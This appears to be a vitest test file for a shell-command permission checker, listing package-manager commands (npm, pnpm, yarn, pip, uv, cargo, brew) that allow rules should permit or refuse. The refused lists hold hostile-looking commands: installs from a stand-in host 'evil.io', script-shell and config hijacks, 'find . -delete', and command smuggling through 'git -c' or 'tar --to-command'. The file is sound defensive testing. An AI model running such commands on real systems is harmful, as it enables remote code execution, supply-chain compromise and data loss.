import { describe } from 'vitest'
import { testCases } from './cases.ts'

describe('prefix rules: package managers', () => {
  testCases([
    {
      rule: 'npm:*',
      permitted: `
      npm test
      npm run build -- --anything x
      npm run test --watch
      npm install -D vitest@3
      npm i --legacy-peer-deps
      npm ci --ignore-scripts
      npm view x version
      npm ls --depth=0
      npm outdated
      npm exec -- prettier --check .
      npm exec prettier
      npm config get registry
      npm version patch --no-git-tag-version`,
      refused: `
      npm test --script-shell=./x
      npm test -script-shell=./x
      npm test ---script-shell=./x
      npm test --script-s=./x
      npm run build --prefix ../x
      npm run build --prefix=../x
      npm -C .. test
      npm install --registry=https://evil.io
      npm install --userconfig x
      npm install --node-options=--require=./x
      npm install --git=./x
      npm config set script-shell ./x
      npm set x y
      npm pkg set scripts.test=id
      npm explore x -- id
      npm edit x
      npm publish
      npm pack --pack-destination=x
      npm exec -c id
      npm exec --call=id
      npm exec -- git -c a.b=c log
      npm exec -- find . -delete
      npm x -- tar xf a --to-command=id
      npm login
      npm fund x
      npm docs x
      npm token create
      npm unknown`,
    },
    {
      rule: 'pnpm:*',
      permitted: `
      pnpm install --frozen-lockfile
      pnpm test --coverage
      pnpm run build --anything
      pnpm --filter x test
      pnpm -r build
      pnpm dev --port 3000
      pnpm add -D x
      pnpm exec prettier --check .
      pnpm dlx create-x
      pnpm list --depth 0`,
      refused: `
      pnpm -C .. test
      pnpm --dir ../x test
      pnpm --dir=../x test
      pnpm --config.script-shell=./x test
      pnpm --script-shell=./x test
      pnpm -c exec id
      pnpm config set script-shell ./x
      pnpm set a b
      pnpm env use 20
      pnpm patch x
      pnpm install --registry=https://evil.io
      pnpm install --pnpmfile=./x
      pnpm install --modules-dir=x
      pnpm install --store-dir x
      pnpm publish
      pnpm deploy x
      pnpm exec git -c a.b=c log
      pnpm dlx find . -delete
      pnpm find . -delete`,
    },
    {
      rule: 'yarn:*',
      permitted: `
      yarn
      yarn install --frozen-lockfile
      yarn test --anything
      yarn run build --x
      yarn add -D x
      yarn dev
      yarn why x`,
      refused: `
      yarn --cwd .. test
      yarn --cwd=.. test
      yarn --use-yarnrc x install
      yarn config set yarnPath ./x
      yarn set version ./x
      yarn policies set-version ./x
      yarn plugin import ./x
      yarn install --modules-folder x
      yarn install --registry https://evil.io
      yarn workspace a config set yarnPath x
      yarn node -e x
      yarn publish
      yarn constraints --fix
      yarn npm publish
      yarn exec git -c a.b=c log
      yarn run find . -delete
      yarn sed -i x y`,
    },
    {
      rule: 'pip:*',
      permitted: `
      pip install -r requirements.txt
      pip install -U --quiet 'x[y]==1'
      pip list --format=json
      pip freeze
      pip show x`,
      refused: `
      pip install -i https://evil.io x
      pip install --index-url=https://evil.io x
      pip install --index-u https://evil.io x
      pip install --extra-index-url https://evil.io x
      pip install -f https://evil.io x
      pip install --find-links=https://evil.io x
      pip install --trusted-host evil.io x
      pip install --proxy evil.io x
      pip install -t /x y
      pip install --target=/x y
      pip install --prefix /x y
      pip install --root /x y
      pip install --report x y
      pip --log x install y
      pip --python /x/y install z
      pip --cert x install y
      pip install --config-settings=x=y z
      pip install --global-option=x y
      pip download x
      pip install -r https://evil.io/x
      pip install -c https://evil.io/x y
      pip wheel x
      pip config set global.index-url https://evil.io
      pip config edit
      pip unknown
      pip3 install -i https://evil.io x
      pip3.12 install -i https://evil.io x`,
    },
    {
      rule: 'uv:*',
      permitted: `
      uv run script.py --anything
      uv run --with requests python -c 'x'
      uv run -m pytest -x
      uv pip install -r requirements.txt
      uv add x --dev
      uv sync --frozen
      uv tool install x
      uv venv .venv -p 3.12`,
      refused: `
      uv --directory /x run y
      uv run --directory=/x y
      uv run --project /x y
      uv run --env-file x y
      uv --config-file x run y
      uv add --index https://evil.io x
      uv add --default-index=https://evil.io x
      uv pip install -i https://evil.io x
      uv pip install --extra-index-url=https://evil.io x
      uv pip install --find-links https://evil.io x
      uv pip install --target /x y
      uv pip compile -o x y
      uv export -o x
      uv build -o x
      uv publish
      uv python install --mirror https://evil.io
      uv run git -c a.b=c log
      uv run --with x git -c a.b=c log
      uv run -- find . -delete
      uv tool run sed -i x y
      uv self update
      uv run --python ./evil x
      uv venv -p ./evil
      uv pip install -r https://evil.io/x
      uv help run
      uv unknown`,
    },
    {
      rule: 'cargo:*',
      permitted: `
      cargo build --release
      cargo test -p x -- --nocapture
      cargo +nightly fmt --check
      cargo clippy --all-targets -- -D warnings
      cargo run -- --config x
      cargo add serde -F derive`,
      refused: `
      cargo build --config x
      cargo --config x build
      cargo -Z x build
      cargo -Zx build
      cargo -C .. build
      cargo +/tmp/x build
      cargo +mine build
      cargo build --manifest-path=../x/Cargo.toml
      cargo build --manifest-pat ../x
      cargo build --target-dir=/x
      cargo build --target ./x.json
      cargo build --target=x.json
      cargo build --out-dir x
      cargo install --path ../x
      cargo install --git https://evil.io/x
      cargo install --root /x y
      cargo install --index https://evil.io x
      cargo add x --registry y
      cargo publish
      cargo login
      cargo rustc -- -C linker=./x
      cargo vendor
      cargo build --help
      cargo help build
      cargo some-extension`,
    },
    {
      rule: 'brew:*',
      permitted: `
      brew install jq
      brew install --cask x
      brew list --versions
      brew services restart x
      brew upgrade`,
      refused: `
      brew edit x
      brew sh
      brew ruby -e x
      brew irb
      brew bundle --file=x
      brew bundle exec id
      brew tap a/b https://evil.io --custom-remote
      brew install --cc=./x y
      brew create https://evil.io
      brew extract x y
      brew home x
      brew install ./x.rb
      brew install https://evil.io/x.rb
      brew tap a/b https://evil.io/x
      brew log x
      brew unknown`,
    },
  ])
})
